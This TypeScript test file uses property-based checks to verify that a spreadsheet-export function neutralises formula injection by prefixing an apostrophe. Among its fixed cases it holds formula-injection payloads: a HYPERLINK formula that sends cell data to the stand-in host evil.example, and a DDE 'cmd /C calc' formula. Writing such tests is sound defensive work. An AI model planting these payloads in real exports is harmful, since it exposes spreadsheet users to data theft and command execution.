import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { neutraliseCellText, restoreCellText, startsLikeFormula } from './export.cells.js';

/**
 * Written out independently of the implementation: a cell whose first character — or first
 * after white space — is one of OWASP's = + - @ TAB CR, NUL (ASVS) or a full-width ＝ ＋ － ＠.
 */
const LOOKS_LIKE_FORMULA = /^\s*[=+\-@\t\r\0＝＋－＠]/u;
const STARTS = ['=', '+', '-', '@', '\t', '\r', '\0', '＝', '＋', '－', '＠', "'", ' ', '　', '\n', 'a', '山'];

/** Any text, often starting with a trigger, a quote or white space, so the edges are hit every run. */
const cellText = fc.oneof(
  fc.string(),
  fc.string({ unit: 'binary' }),
  fc
    .tuple(fc.array(fc.constantFrom(...STARTS), { maxLength: 3 }), fc.string({ unit: 'binary' }))
    .map(([start, rest]) => start.join('') + rest),
);

describe('neutraliseCellText', () => {
  it('never leaves a cell that a spreadsheet could read as a formula', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const cell = neutraliseCellText(text);
        expect(cell).not.toMatch(LOOKS_LIKE_FORMULA);
        expect(startsLikeFormula(cell)).toBe(false);
      }),
      { numRuns: 2000 },
    );
  });

  it('gives the original text back when one leading apostrophe is dropped', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        expect(restoreCellText(neutraliseCellText(text))).toBe(text);
      }),
      { numRuns: 2000 },
    );
  });

  it('changes nothing but one leading apostrophe, and only where needed', () => {
    fc.assert(
      fc.property(cellText, (text) => {
        const cell = neutraliseCellText(text);
        const needed = LOOKS_LIKE_FORMULA.test(text) || text.startsWith("'");
        expect(cell).toBe(needed ? `'${text}` : text);
      }),
      { numRuns: 2000 },
    );
  });

  it('marks the planted and the everyday cases as the rule says', () => {
    const cases: Array<[string, string]> = [
      ['=HYPERLINK("http://evil.example/?"&A1,"詳細")', `'=HYPERLINK("http://evil.example/?"&A1,"詳細")`],
      ["=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"],
      ['+81 90-1234-5678', "'+81 90-1234-5678"], // a phone number as text: OWASP neutralises it too
      ['-2+3', "'-2+3"],
      ['@SUM(A1)', "'@SUM(A1)"],
      ['\t=1', "'\t=1"],
      ['\r=1', "'\r=1"],
      ['＝ＳＵＭ(1,1)', "'＝ＳＵＭ(1,1)"],
      ['＋８１', "'＋８１"],
      ['－１', "'－１"],
      ['＠ｘ', "'＠ｘ"],
      ['  =1+1', "'  =1+1"],
      ['　=1+1', "'　=1+1"], // after a full-width space
      ["'quoted", "''quoted"],
      ['山形 花子', '山形 花子'],
      ['hanako@example.jp', 'hanako@example.jp'],
      ['090-1234-5678', '090-1234-5678'],
      ['a=b', 'a=b'],
      ['', ''],
    ];
    for (const [text, cell] of cases) expect(neutraliseCellText(text), JSON.stringify(text)).toBe(cell);
  });
});
